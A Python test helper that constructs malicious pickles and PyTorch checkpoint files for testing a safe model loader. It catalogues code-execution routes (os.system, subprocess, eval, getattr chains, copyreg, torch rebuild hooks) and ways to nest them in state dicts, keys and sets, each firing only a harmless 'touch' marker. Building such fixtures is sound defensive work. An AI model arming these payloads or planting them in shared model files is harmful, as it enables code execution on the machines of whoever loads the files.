"""Pickles that would do something if anything in them were called, written without having what they name."""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path
from typing import Any


class Calls:
    """Pickles as a call of anything, with or without a state after it."""

    def __init__(self, function: Any, *arguments: Any, **more: Any) -> None:
        self.reduced = (function, arguments, *more.get("more", ()))

    def __reduce__(self) -> tuple[Any, ...]:
        return self.reduced


class Named:
    """A function of a given dotted name, known to the pickle only by that name."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


class Pickler(pickle._Pickler):  # type: ignore[name-defined, misc]
    """Writes :class:`Named` as a reference to a global that need not exist."""

    def save(self, value: Any, save_persistent_id: bool = True) -> None:
        if isinstance(value, Named):
            self.write(pickle.GLOBAL + f"{value.module}\n{value.name}\n".encode())
        elif isinstance(value, Calls):
            function, arguments, *state = value.reduced
            self.save(function)
            self.save(arguments)
            self.write(pickle.REDUCE)
            for part in state:
                self.save(part)
                self.write(pickle.BUILD)
        else:
            super().save(value, save_persistent_id)


def dumps(content: Any) -> bytes:
    buffer = io.BytesIO()
    Pickler(buffer, 2).dump(content)
    return buffer.getvalue()


def zip_file(path: Path, pickled: bytes, storages: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        for key, content in (storages or {}).items():
            archive.writestr(f"archive/data/{key}", content)
        archive.writestr("archive/version", "3\n")
    return path


def legacy_file(path: Path, pickled: bytes, keys: tuple[str, ...] = (), tail: bytes = b"") -> Path:
    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, machine)]
    path.write_bytes(b"".join([*head, pickled, pickle.dumps(list(keys), 2)]) + tail)
    return path


def call(name: str, *arguments: Any, more: tuple[Any, ...] = ()) -> Calls:
    """A call of what the dotted name means, then states for the result."""
    return Calls(Named(*name.rsplit(".", 1)), *arguments, more=more)


def attacks(mark: Path) -> dict[str, Any]:
    """Objects that would create the file, or reach a function that could, if anything in them were called."""
    run, code = f"touch {mark}", f"open({str(mark)!r}, 'w').close()"
    hit, system, os = call("os.system", run), Named("os", "system"), Named("shutil", "os")
    weights = {"conv.conv.0.weight": hit}
    return {
        "os.system": hit,
        "posix.system": call("posix.system", run),
        "subprocess": call("subprocess.check_call", ["sh", "-c", run]),
        "eval": call("builtins.eval", code),
        "exec of Python 2": call("__builtin__.exec", code),
        "open": call("io.open", str(mark), "w"),
        "getattr chain": Calls(call("builtins.getattr", os, "system"), run),
        "attrgetter chain": Calls(Calls(call("operator.attrgetter", "system"), os), run),
        "methodcaller": Calls(call("operator.methodcaller", "system", run), os),
        "dotted name": Calls(Named("os", "path.os.system"), run),
        "partial": Calls(call("functools.partial", system, run)),
        "map": call("builtins.list", call("builtins.map", system, [run])),
        "import": call("builtins.__import__", "antigravity"),
        "import_module": call("importlib.import_module", "antigravity"),
        "torch.hub": call("torch.hub.load", str(mark.parent), "entry"),
        "torch.jit": call("torch.jit.load", str(mark)),
        "torch.load": call("torch.load", str(mark)),
        "torch.save": call("torch.save", 1, str(mark)),
        "_load_from_bytes": call("torch.storage._load_from_bytes", dumps(hit)),
        "copyreg": call(
            "copyreg._reconstructor", Named("subprocess", "Popen"), Named("builtins", "object"), None
        ),
        "numpy": call("numpy.core.multiarray.scalar", hit),
        "nested state": call("torch.nn.Module", more=({"_modules": {"x": hit}},)),
        "partial by its state": call("functools.partial", system, more=((system, (run,), {}, {}),)),
        "inside an agent": {"agent": {"encoder": hit, "proto": 1}},
        "inside a state dict": {"algo_state_dict": {"encoder": weights}},
        "as a tensor": call("torch._utils._rebuild_tensor_v2", hit, 0, (1,), (1,)),
        "as a hook": call("torch._utils._rebuild_parameter", 1, True, hit),
        "as a key": {("a", hit): 1},
        "in a set": call("builtins.set", [hit]),
    }
